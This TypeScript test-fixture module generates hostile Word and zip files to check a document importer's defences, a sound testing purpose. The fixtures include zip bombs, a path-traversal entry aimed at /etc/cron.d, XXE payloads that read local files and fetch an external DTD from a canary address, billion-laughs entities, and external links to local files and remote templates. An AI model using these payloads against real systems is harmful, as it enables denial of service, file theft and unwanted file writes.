import { ARTICLE, type Canary, EITHER, type HostileFile, IMPORTED, refused } from "./hostile-file.ts";
import { deflatedTimes, type Part, zipOf } from "./zip.ts";

const WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
const OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const PACKAGE = "http://schemas.openxmlformats.org/package/2006";
const HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n';
const SPACES = `xmlns:w="${WORD}" xmlns:r="${OFFICE}"`;

const document = (body: string) => `${HEAD}<w:document ${SPACES}><w:body>${body}</w:body></w:document>`;
const paragraph = (words: string) => `<w:p><w:r><w:t>${words}</w:t></w:r></w:p>`;
const relation = (id: string, type: string, target: string, mode = "") =>
  `<Relationship Id="${id}" Type="${OFFICE}/${type}" Target="${target}"${mode && ` TargetMode="${mode}"`}/>`;
const relations = (...lines: string[]) =>
  `${HEAD}<Relationships xmlns="${PACKAGE}/relationships">${lines.join("")}</Relationships>`;

const BODY = ARTICLE.map(paragraph).join("");

/** The parts of an honest document, by name. */
const HONEST: Readonly<Record<string, string>> = {
  "[Content_Types].xml": `${HEAD}<Types xmlns="${PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
  "_rels/.rels": relations(
    relation("rId1", "officeDocument", "word/document.xml"),
    `<Relationship Id="rId2" Type="${PACKAGE}/relationships/metadata/core-properties" Target="docProps/core.xml"/>`,
  ),
  "word/document.xml": document(BODY),
  "word/_rels/document.xml.rels": relations(
    relation("rId1", "styles", "styles.xml"),
    relation("rId2", "footnotes", "footnotes.xml"),
    relation("rId3", "numbering", "numbering.xml"),
  ),
  "word/styles.xml": `${HEAD}<w:styles ${SPACES}><w:style w:type="paragraph" w:styleId="A"><w:name w:val="Normal"/></w:style></w:styles>`,
  "word/footnotes.xml": `${HEAD}<w:footnotes ${SPACES}/>`,
  "word/numbering.xml": `${HEAD}<w:numbering ${SPACES}/>`,
  "docProps/core.xml": `${HEAD}<cp:coreProperties xmlns:cp="${PACKAGE}/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>Bread</dc:title></cp:coreProperties>`,
};

/** A document that is honest but for these parts. */
export function docxOf(parts: Readonly<Record<string, string | Uint8Array>> = {}, more: readonly Part[] = []): Buffer {
  const given = { ...HONEST, ...parts };
  const replaced = new Set(more.map(({ name }) => name));
  const honest = Object.entries(given).filter(([name]) => !replaced.has(name));
  return zipOf([...honest.map(([name, words]) => ({ name, bytes: Buffer.from(words) })), ...more]);
}

/** The main part of an honest document, for those who want to harm it. */
export function honestDocument(): Buffer {
  return Buffer.from(document(BODY));
}

// A gigabyte, of which an archive needs a megabyte.
const SPACES_BLOCK = Buffer.alloc(2 ** 20, " ");
const GIGABYTE = 1024;
const bomb = (more: Partial<Part>): Part => ({
  name: "word/document.xml",
  bytes: Buffer.alloc(0),
  packed: deflatedTimes(SPACES_BLOCK, GIGABYTE),
  size: 2 ** 30,
  ...more,
});

const BOMBS: readonly HostileFile[] = [
  { name: "zip-bomb-flat.docx", make: () => docxOf({}, [bomb({})]), outcome: refused(/document/) },
  { name: "zip-bomb-lying-sizes.docx", make: () => docxOf({}, [bomb({ size: 1000 })]), outcome: refused(/document/) },
  {
    name: "zip-bomb-in-a-part-nobody-asks-for.docx",
    make: () => docxOf({}, [bomb({ name: "word/media/image1.png" })]),
    outcome: refused(/document/),
  },
  {
    name: "zip-bomb-nested.docx",
    make: () => docxOf({ "word/embeddings/inner.zip": zipOf([bomb({ name: "a.xml" })]) }),
    outcome: refused(/document/),
  },
  {
    name: "zip-bomb-nested.zip",
    make: () => zipOf([{ name: "inner.zip", bytes: zipOf([bomb({ name: "a.xml" })]) }]),
    outcome: refused(/archive/),
  },
  {
    name: "zip-bomb-overlapping.docx",
    make: () =>
      docxOf({}, [
        { name: "word/kernel.xml", bytes: Buffer.alloc(2 ** 20, " ") },
        ...Array.from({ length: 1000 }, (_, at) => ({
          name: `word/x${at}.xml`,
          bytes: Buffer.alloc(0),
          packed: Buffer.alloc(0),
          size: 2 ** 20,
          over: "word/kernel.xml",
        })),
      ]),
    outcome: refused(/document/),
  },
  {
    name: "zip-65536-entries.docx",
    make: () =>
      docxOf(
        {},
        Array.from({ length: 65_536 - Object.keys(HONEST).length }, (_, at) => ({
          name: `x${at}`,
          bytes: Buffer.alloc(0),
        })),
      ),
    outcome: refused(/document/),
  },
  {
    name: "zip-leads-out.docx",
    make: () => docxOf({}, [{ name: "../../../../etc/cron.d/x", bytes: Buffer.from("* * * * * root true") }]),
    outcome: refused(/document/),
  },
  {
    name: "zip-link.docx",
    make: ({ file }) => docxOf({}, [{ name: "word/document.xml", bytes: Buffer.from(file), mode: 0o120777 }]),
    outcome: refused(/document/),
  },
  {
    name: "zip-two-documents.docx",
    make: () =>
      docxOf(
        {},
        [0, 1].map(() => ({ name: "word/document.xml", bytes: Buffer.from(document(BODY)) })),
      ),
    outcome: refused(/document/),
  },
  { name: "zip-cut-short.docx", make: () => docxOf().subarray(0, 900), outcome: refused(/document/) },
];

const EXTERNAL_ENTITY = ({ file, address }: Canary) =>
  `<!DOCTYPE x [<!ENTITY a SYSTEM "file://${file}"><!ENTITY % b SYSTEM "${address}/xxe.dtd"> %b;]>`;

const LAUGHS = `<!DOCTYPE x [<!ENTITY a "ha">${Array.from(
  { length: 30 },
  (_, at) => `<!ENTITY a${at} "${`&a${at === 0 ? "" : at - 1};`.repeat(10)}">`,
).join("")}]>`;

/** The part with a document type and, as the first words of its first element, an entity. */
function poisoned(part: string, declaration: string, entity: string): Record<string, string> {
  const honest = HONEST[part] ?? "";
  const inside = honest.replace(HEAD, "").replace(/<w:t>|<dc:title>|<w:body>|(?=<\/\w+>$)/, `$&${entity}`);
  return { [part]: `${HEAD}${declaration}${inside}` };
}

const ENTITIES: readonly HostileFile[] = Object.keys(HONEST).flatMap((part) => {
  const label = part.replace(/^.*\/(?=.)|\W/g, "").toLowerCase();
  return [
    {
      name: `xxe-in-${label}.docx`,
      make: (canary: Canary) => docxOf(poisoned(part, EXTERNAL_ENTITY(canary), "&a;")),
      outcome: refused(/document/),
    },
    {
      name: `billion-laughs-in-${label}.docx`,
      make: () => docxOf(poisoned(part, LAUGHS, "&a29;")),
      outcome: refused(/document/),
    },
  ];
});

const picture = (id: string, kind: "link" | "embed") =>
  `<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:${kind}="${id}"/></w:drawing></w:r></w:p>`;

const REFERENCES: readonly HostileFile[] = [
  {
    name: "linked-pictures.docx",
    make: ({ file, address }) =>
      docxOf({
        "word/document.xml": document(
          `${picture("rId7", "link")}${picture("rId8", "embed")}${picture("rId9", "link")}${picture("rId10", "link")}${BODY}`,
        ),
        "word/_rels/document.xml.rels": relations(
          relation("rId7", "image", `file://${file}`, "External"),
          relation("rId8", "image", file, "External"),
          relation("rId9", "image", `${address}/picture.png`, "External"),
          relation("rId10", "image", "/dev/zero", "External"),
        ),
      }),
    outcome: IMPORTED,
  },
  {
    name: "linked-parts.docx",
    make: ({ file, address }) =>
      docxOf({
        "word/document.xml": document(
          `<w:altChunk r:id="rId7"/><w:subDoc r:id="rId8"/><w:p><w:r><w:instrText>INCLUDETEXT "${file}"</w:instrText></w:r></w:p>${BODY}`,
        ),
        "word/_rels/document.xml.rels": relations(
          relation("rId1", "styles", `file://${file}`, "External"),
          relation("rId2", "footnotes", `../../../../../..${file}`),
          relation("rId7", "aFChunk", `${address}/chunk.html`, "External"),
          relation("rId8", "subDocument", `file://${file}`, "External"),
          relation("rId9", "attachedTemplate", `${address}/template.dotm`, "External"),
        ),
      }),
    outcome: IMPORTED,
  },
  {
    name: "main-part-outside.docx",
    make: ({ file }) => docxOf({ "_rels/.rels": relations(relation("rId1", "officeDocument", `../../../..${file}`)) }),
    outcome: EITHER,
  },
];

const many = (times: number, words: string) => words.repeat(times);

const SHAPES: readonly HostileFile[] = [
  {
    name: "nested-100000-deep.docx",
    make: () =>
      docxOf({ "word/document.xml": document(`${many(100_000, "<w:ins>")}${BODY}${many(100_000, "</w:ins>")}`) }),
    outcome: refused(/document/),
  },
  {
    name: "tables-in-tables.docx",
    make: () =>
      docxOf({
        "word/document.xml": document(
          `${many(5000, "<w:tbl><w:tr><w:tc>")}${BODY}${many(5000, "</w:tc></w:tr></w:tbl>")}`,
        ),
      }),
    outcome: refused(/document/),
  },
  {
    name: "20-mb-of-paragraphs.docx",
    make: () => docxOf({ "word/document.xml": document(many(500_000, paragraph("x"))) }),
    outcome: refused(/document/),
  },
  {
    name: "20-mb-of-paragraphs-each-another.docx",
    make: () => {
      const words = Array.from({ length: 400_000 }, (_, at) => paragraph(((at * 2_654_435_761) >>> 0).toString(36)));
      return docxOf({ "word/document.xml": document(words.join("")) });
    },
    outcome: refused(/./),
  },
  {
    name: "long-article-of-small-runs.docx",
    make: () => {
      const word = (at: number) =>
        `<w:r><w:t xml:space="preserve">${((at * 2_654_435_761) >>> 0).toString(36)} </w:t></w:r>`;
      const line = (from: number) =>
        `<w:p>${Array.from({ length: 40 }, (_, at) => word(from * 40 + at)).join("")}</w:p>`;
      return docxOf({ "word/document.xml": document(Array.from({ length: 4000 }, (_, at) => line(at)).join("")) });
    },
    outcome: EITHER,
  },
  {
    name: "a-million-attributes.docx",
    make: () => {
      const attributes = Array.from({ length: 1_000_000 }, (_, at) => ` a${at}=""`).join("");
      return docxOf({ "word/document.xml": document(`<w:p${attributes}/>${BODY}`) });
    },
    outcome: EITHER,
  },
  {
    name: "an-attribute-of-15-mb.docx",
    make: () => docxOf({ "word/document.xml": document(`<w:p w:x="${many(15, many(2 ** 20, "y"))}"/>${BODY}`) }),
    outcome: refused(/document/),
  },
  {
    name: "styles-in-a-circle.docx",
    make: () => {
      const style = (id: string, base: string) =>
        `<w:style w:type="paragraph" w:styleId="${id}"><w:name w:val="${id}"/><w:basedOn w:val="${base}"/></w:style>`;
      const chain = Array.from({ length: 5000 }, (_, at) => style(`s${at}`, `s${(at + 1) % 5000}`)).join("");
      const body = ARTICLE.map(
        (words) => `<w:p><w:pPr><w:pStyle w:val="s0"/></w:pPr><w:r><w:t>${words}</w:t></w:r></w:p>`,
      );
      return docxOf({
        "word/styles.xml": `${HEAD}<w:styles ${SPACES}>${style("A", "A")}${chain}</w:styles>`,
        "word/document.xml": document(body.join("")),
      });
    },
    outcome: IMPORTED,
  },
  {
    name: "prototype-names.docx",
    make: () => {
      const names = ["__proto__", "constructor", "toString", "hasOwnProperty"];
      const styles = names.map(
        (id) => `<w:style w:type="paragraph" w:styleId="${id}"><w:name w:val="${id}"/></w:style>`,
      );
      const body = names.map((id) => `<w:p><w:pPr><w:pStyle w:val="${id}"/></w:pPr><w:r><w:t>${id}</w:t></w:r></w:p>`);
      return docxOf({
        "word/styles.xml": `${HEAD}<w:styles ${SPACES}>${styles.join("")}</w:styles>`,
        "word/document.xml": document(`${body.join("")}${BODY}`),
        ["__proto__"]: "x",
      });
    },
    outcome: IMPORTED,
  },
  {
    name: "invalid-utf-8.docx",
    make: () => docxOf({ "word/document.xml": Buffer.from(document(BODY).replace("bread", "br\xe9ad"), "latin1") }),
    outcome: refused(/document/),
  },
  {
    name: "characters-that-cannot-be-kept.docx",
    make: () => docxOf({ "word/document.xml": document(`${paragraph("a&#0;b&#xD800;c&#x110000;d")}${BODY}`) }),
    outcome: IMPORTED,
  },
];

export const DOCX_FILES: readonly HostileFile[] = [...BOMBS, ...ENTITIES, ...REFERENCES, ...SHAPES];
